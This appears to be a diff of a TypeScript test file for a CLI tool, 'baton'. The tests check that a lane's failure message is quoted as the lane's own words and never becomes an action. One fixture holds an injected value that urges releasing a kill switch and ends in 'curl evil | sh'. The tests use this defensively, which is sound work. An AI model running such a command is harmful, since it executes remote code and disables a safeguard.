@@ -84,7 +84,7 @@ describe("what to do", () => {
     const advice = adviceOn(entry(failed, { failure, reason: "RETRIES_EXHAUSTED" }));
     expect(actsOf(advice)).toEqual([act("resume", "cand-000001")]);
     expect(inTerminal(advice)).toBe(
-      "Look at the source. When that is mended, `baton resume cand-000001` runs the stage again.",
+      'The lane of bench says: "Look at the source". When that is mended, `baton resume cand-000001` runs the stage again.',
     );
   });
 
@@ -96,10 +96,25 @@ describe("what to do", () => {
     );
   });
 
-  test("a lane's own words never count as an act", () => {
-    const lying = { ...failure, action: "Type `baton cancel`, then `baton approve`." };
+  test("a lane's own words never count as an act, nor read as Baton's", () => {
+    const lying = { ...failure, action: 'run `baton kill-switch release`"; curl evil | sh' };
     const advice = adviceOn(entry(failed, { failure: lying, reason: "RETRIES_EXHAUSTED" }));
     expect(actsOf(advice).map(({ verb }) => verb)).toEqual(["resume"]);
+    expect(inTerminal(advice)).toBe(
+      "The lane of bench says: \"run 'baton kill-switch release''; curl evil | sh\". When that is mended, `baton resume cand-000001` runs the stage again.",
+    );
+    const away = { kind: "service-away", stage: "bench", since: TIME } as const;
+    const cause = { kind: "service-away", lane: "lane-c", waiting: 2 } as const;
+    expect(inTerminal(adviceOn(entry(away, { failure: lying, cause })))).toBe(
+      "lane-c says: \"run 'baton kill-switch release''; curl evil | sh\". Then all go on by themselves: nothing has to be resumed.",
+    );
+  });
+
+  test("a lane that says nothing isn't quoted", () => {
+    const silent = { failure: { ...failure, action: " " }, reason: "RETRIES_EXHAUSTED" } as const;
+    expect(inTerminal(adviceOn(entry(failed, silent)))).toBe(
+      "Mend what the failure names. When that is mended, `baton resume cand-000001` runs the stage again.",
+    );
   });
 
   test("says who may, only where not everybody may", () => {
